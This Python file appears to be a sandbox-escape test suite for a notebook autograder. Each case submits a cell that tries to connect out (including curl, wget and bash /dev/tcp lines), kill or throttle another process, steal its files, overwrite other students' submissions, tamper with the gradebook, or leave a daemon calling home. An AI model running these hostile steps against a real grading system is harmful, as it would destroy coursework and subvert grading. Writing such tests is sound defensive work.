"""The network, other processes, and files outside."""

from attack import BOTH_WALLS, Submission, family

reach = family("reach_out")


@reach
def tcp(s: Submission):
    """Connects to a TCP port of this machine, by IPv4 and by IPv6."""
    s.own_cell("""
        import socket
        for address in ("127.0.0.1", "::1", "0.0.0.0"):
            try:
                with socket.create_connection((address, TCP), 2) as end:
                    end.sendall(f"{NAME} here".encode())
            except OSError:
                pass
    """)


@reach
def tcp_fast_open(s: Submission):
    """Sends TCP data without ever calling connect, by MSG_FASTOPEN."""
    s.own_cell("""
        import socket
        with socket.socket() as end:
            end.sendto(f"{NAME} here".encode(), 0x20000000, ("127.0.0.1", TCP))
    """)


@reach
def other_protocols(s: Submission):
    """Reaches a TCP port by multipath TCP, and asks for SCTP, DCCP and UDP-Lite."""
    s.own_cell("""
        import socket
        for kind, protocol in ((1, 262), (1, 132), (5, 132), (6, 33), (2, 136)):
            try:
                with socket.socket(socket.AF_INET, kind, protocol) as end:
                    end.settimeout(2)
                    end.connect(("127.0.0.1", UDP if protocol == 136 else TCP))
                    end.sendall(f"{NAME} here".encode())
            except OSError:
                pass
    """)


@reach
def udp(s: Submission):
    """Sends a UDP packet, with and without connecting first."""
    s.own_cell("""
        import socket
        for address, kind in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
            try:
                socket.socket(kind, socket.SOCK_DGRAM).sendto(f"{NAME} here".encode(), (address, UDP))
            except OSError:
                pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.connect(("127.0.0.1", UDP))
            end.send(f"{NAME} here".encode())
    """)


@reach
def dns(s: Submission):
    """Asks a name server for a name that carries a message."""
    s.own_cell("""
        import socket
        name = NAME.encode()
        question = b"\\x10\\x1a\\x01\\x00\\x00\\x01" + bytes(6) + bytes([len(name)]) + name
        question += b"\\x04test\\x00\\x00\\x01\\x00\\x01"
        try:
            socket.getaddrinfo(NAME + ".test", 80)
        except OSError:
            pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.sendto(question, ("127.0.0.1", 53))
    """)


@reach
def abstract_socket(s: Submission):
    """Connects to another program's Unix socket that has no path."""
    s.own_cell("""
        import socket
        with socket.socket(socket.AF_UNIX) as end:
            end.connect("\\0" + ABSTRACT)
            end.sendall(f"{NAME} here".encode())
    """)


@reach(promised_by=BOTH_WALLS)
def socket_with_a_path(s: Submission):
    """Connects to another program's Unix socket by its path, as to a container engine's."""
    s.own_cell("""
        import socket
        with socket.socket(socket.AF_UNIX) as end:
            end.connect(SOCKET)
            end.sendall(f"{NAME} here".encode())
    """)


@reach
def programs_that_use_the_network(s: Submission):
    """Leaves the network to curl, to bash and to another Python, and to a thread of torch's own."""
    s.own_cell("""
        import subprocess, sys
        url = f"http://127.0.0.1:{TCP}/{NAME}"
        for command in (
            ["curl", "-m", "2", url], ["wget", "-T", "2", "-O", "-", url],
            ["bash", "-c", f"echo {NAME} > /dev/tcp/127.0.0.1/{TCP}"],
            [sys.executable, "-c", f"import urllib.request as u; u.urlopen({url!r}, timeout=2)"],
        ):
            try:
                subprocess.run(command, timeout=4, capture_output=True)
            except (OSError, subprocess.SubprocessError):
                pass
    """)


@reach
def raw_and_kernel_sockets(s: Submission):
    """Opens sockets for raw packets, for the kernel's own messages, and to a virtual machine's host."""
    s.own_cell("""
        import socket
        for name, family, kind, protocol in (
            ("raw", socket.AF_INET, socket.SOCK_RAW, 1), ("packet", 17, socket.SOCK_RAW, 0),
            ("ping", socket.AF_INET, socket.SOCK_DGRAM, 1), ("netlink", 16, socket.SOCK_RAW, 0),
            ("kernel crypto", 38, socket.SOCK_SEQPACKET, 0), ("host of a virtual machine", 40, socket.SOCK_STREAM, 0),
            ("bluetooth", 31, socket.SOCK_RAW, 1), ("XDP", 44, socket.SOCK_RAW, 0),
        ):
            try:
                socket.socket(family, kind, protocol).close()
                claim(f"has a socket of the kind {name}")
            except OSError:
                pass
    """)


@reach
def opens_a_door(s: Submission):
    """Listens on a TCP and a UDP port for someone outside to come in."""
    s.own_cell("""
        import socket, time
        door = socket.socket()
        door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        door.bind(("0.0.0.0", DOOR))
        door.listen()
        door.settimeout(2)
        guest, _ = door.accept()
        guest.sendall(f"{NAME} here".encode())
        guest.close()
    """)


@reach
def ends_another_process(s: Submission):
    """Sends signals to a process of the grader's user that has nothing to do with it."""
    s.own_cell("""
        import os, signal
        for send in (
            lambda: os.kill(BYSTANDER, signal.SIGKILL),
            lambda: signal.pidfd_send_signal(os.pidfd_open(BYSTANDER), signal.SIGKILL),
            lambda: os.killpg(os.getpgid(BYSTANDER), signal.SIGKILL),
        ):
            try:
                send()
            except OSError:
                pass
    """)


@reach
def slows_another_process(s: Submission):
    """Takes limits, priority and processors from a process that is not its own."""
    s.own_cell("""
        import os, resource
        def attempt(what, do):
            try:
                do()
            except (OSError, ValueError):
                return
            claim(what)
        attempt("set another's limit", lambda: resource.prlimit(BYSTANDER, resource.RLIMIT_NOFILE, (64, 64)))
        attempt("set another's priority", lambda: os.setpriority(os.PRIO_PROCESS, BYSTANDER, 5))
        attempt("set another's processors", lambda: os.sched_setaffinity(BYSTANDER, {0}))
        attempt("set all of the user's priority", lambda: os.setpriority(os.PRIO_USER, os.getuid(), 5))
    """)


@reach
def takes_files_of_another_process(s: Submission):
    """Takes open files from other processes by pidfd_getfd."""
    s.own_cell("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), BYSTANDER}:
            if pid in (0, os.getpid()):
                continue
            try:
                handle = os.pidfd_open(pid)
            except OSError:
                continue
            for number in range(30):
                if libc.syscall(438, handle, number, 0) >= 0:
                    claim(f"has file {number} of process {pid}")
                    break
    """)


@reach
def writes_outside(s: Submission):
    """Writes into the course, the grader's home, the temporary folder and Python's own folders."""
    s.own_cell("""
        import os, sys, tempfile
        here = os.getcwd()
        for folder in (DROP, HOME, COURSE, COURSE + "/submitted", BESIDE, "/var/tmp", "/", sys.prefix,
                       os.path.dirname(os.__file__), os.path.dirname(here)):
            try:
                open(os.path.join(folder, "written-by-" + NAME), "w").write("x")
            except OSError:
                continue
            if folder in (sys.prefix, os.path.dirname(os.__file__)):
                claim("wrote into Python's own folder")
    """)


@reach
def touches_the_gradebook(s: Submission):
    """Changes the gradebook's permissions, times and attributes, and links and renames it."""
    s.own_cell("""
        import os
        book = COURSE + "/gradebook.db"
        for do in (
            lambda: os.chmod(book, 0o4777), lambda: os.utime(book, (5, 5)),
            lambda: os.setxattr(book, "user.attack", NAME.encode()),
            lambda: os.link(book, DROP + "/" + NAME), lambda: os.link(book, "linked.db"),
            lambda: os.symlink(book, DROP + "/" + NAME + "-link"),
        ):
            try:
                do()
            except OSError:
                pass
        if os.path.exists("linked.db") and os.stat("linked.db").st_nlink > 1:
            claim("has a second name of the gradebook")
    """)


@reach
def destroys_the_course(s: Submission):
    """Deletes and overwrites the source notebook and other students' submissions."""
    s.own_cell("""
        import glob, os
        for path in glob.glob(COURSE + "/source/*/*") + glob.glob(COURSE + "/submitted/*honest*/*/*"):
            for do in (lambda: open(path, "w").write(NAME), lambda: os.truncate(path, 0), lambda: os.unlink(path)):
                try:
                    do()
                except OSError:
                    pass
    """)


@reach
def watches_the_course(s: Submission):
    """Has the kernel tell what happens in the course's folders."""
    s.own_cell("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        watch = libc.inotify_init1(0)
        for folder in (COURSE, HOME, BESIDE):
            if libc.inotify_add_watch(watch, folder.encode(), 0x100 | 0x2 | 0x20) >= 0:
                claim("watches " + folder)
        if libc.fanotify_init(0, 0) >= 0:
            claim("has a fanotify group")
    """)


@reach
def works_on_after_its_end(s: Submission):
    """Leaves a daemon behind that calls home once grading has gone on to others."""
    s.own_cell("""
        import os, subprocess, sys
        home = (f"import socket, time; time.sleep(4); "
                f"socket.create_connection(('127.0.0.1', {TCP})).send(b'{NAME} after the end'); time.sleep(300)")
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(3):
                    os.close(number)
                os.execv(sys.executable, [sys.executable, "-c", home])
            os._exit(0)
    """)


@reach
def keeps_keys_in_the_kernel(s: Submission):
    """Stores data in the kernel's keyrings and message queues, where a later process could find it."""
    s.own_cell("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall(248, b"user", b"attack", b"data", 4, -4) > 0:  # add_key to the user's keyring
            claim("stored a key")
        if libc.msgget(0x101B, 0o1666) >= 0:
            claim("has a message queue")
        if libc.shmget(0x101C, 4096, 0o1666) >= 0:
            claim("has shared memory")
        queue = libc.syscall(240, b"attack", 0o102, 0o666, None)  # mq_open
        if queue >= 0:
            claim("has a POSIX message queue")
        if libc.syscall(323, 1) >= 0:  # userfaultfd
            claim("has a userfaultfd")
        if libc.syscall(298, ctypes.create_string_buffer((1).to_bytes(4, "little") + (112).to_bytes(4, "little")
                        + bytes(104), 112), 0, -1, -1, 0) >= 0:  # perf_event_open
            claim("has a performance counter")
    """)
